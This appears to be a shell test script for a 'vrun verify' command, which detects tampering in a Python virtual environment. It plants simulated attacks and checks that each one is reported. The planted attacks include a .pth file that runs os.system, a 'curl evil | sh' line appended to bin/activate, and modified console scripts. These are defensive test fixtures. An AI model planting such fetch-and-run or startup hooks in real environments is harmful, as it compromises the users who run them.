# vrun verify (promise 21 of docs/security.md): after untrusted code ran in
# an env, it names what changed, running nothing from the env. Each attack is
# made from inside (the default profile lets a program write the env), then
# verify runs on the host.
. "$TESTS/lib.sh"

make_env v
expect_status 0 "$VRUN" verify v
assert_contains "$out" "v: clean" "a fresh env with pip seeded is clean"

# pip installs a locally built wheel inside: still clean (pip's RECORD lists
# what it installed).
mkdir wheels
make_wheel wheels vtestpkg 1.0
expect_status 0 "$VRUN" v python -m pip install -q --no-index --find-links "$T/wheels" vtestpkg
expect_status 0 "$VRUN" verify v
assert_contains "$out" "v: clean" "clean after pip installed a wheel"
expect_status 0 "$VRUN" verify --json v
assert_true "verify --json prints JSON" "$PY" -c 'import json, sys; j = json.loads(sys.argv[1]); assert j["clean"] and j["files_checked"] > 100' "$out"

site=lib/$(basename "$(dirname "$(ls -d v/lib/python3.*/site-packages)")")/site-packages

# attack CMD PATH WHAT: runs CMD inside v, then verify must exit 1 with one
# line naming PATH; UNDO (on the host) puts things back and verify is clean.
attack() {
        local cmd=$1 path=$2 what=$3 undo=$4
        expect_status 0 "$VRUN" v sh -c "$cmd"
        expect_status 1 "$VRUN" verify v
        assert_contains "$out" "$path: " "verify names $what"
        assert_contains "$out" "1 finding" "verify counts one finding for $what"
        eval "$undo"
        expect_status 0 "$VRUN" verify v
}

attack "echo 'import os; os.system(\"id\")' >\$VIRTUAL_ENV/$site/zz-planted.pth" \
        "$site/zz-planted.pth" "a planted .pth" "rm v/$site/zz-planted.pth"
attack "echo 'print(1)' >\$VIRTUAL_ENV/$site/sitecustomize.py" \
        "$site/sitecustomize.py" "a planted sitecustomize" "rm v/$site/sitecustomize.py"
cp v/bin/activate "$T/activate.orig"
attack "echo 'curl evil | sh' >>\$VIRTUAL_ENV/bin/activate" \
        "bin/activate" "a rewritten activate script" "cp '$T/activate.orig' v/bin/activate"
cp v/pyvenv.cfg "$T/cfg.orig"
attack "sed -i 's/^include-system-site-packages = .*/include-system-site-packages = true/' \$VIRTUAL_ENV/pyvenv.cfg" \
        "pyvenv.cfg" "a changed pyvenv.cfg" "cp '$T/cfg.orig' v/pyvenv.cfg"
cp "v/$site/vtestpkg/__init__.py" "$T/init.orig"
attack "echo 'import os' >>\$VIRTUAL_ENV/$site/vtestpkg/__init__.py" \
        "$site/vtestpkg/__init__.py" "a modified installed file" "cp '$T/init.orig' v/$site/vtestpkg/__init__.py"
attack "printf '#!/bin/sh\n' >\$VIRTUAL_ENV/bin/pytest" \
        "bin/pytest" "a script no RECORD owns" "rm v/bin/pytest"
cp v/bin/pip "$T/pip.orig"
attack "echo 'import os' >>\$VIRTUAL_ENV/bin/pip" "bin/pip" "a rewritten console script" "cp '$T/pip.orig' v/bin/pip"

# Usage.
expect_status 2 "$VRUN" verify
expect_status 2 "$VRUN" verify v extra
expect_status 1 "$VRUN" verify "$T/missing"

done_testing
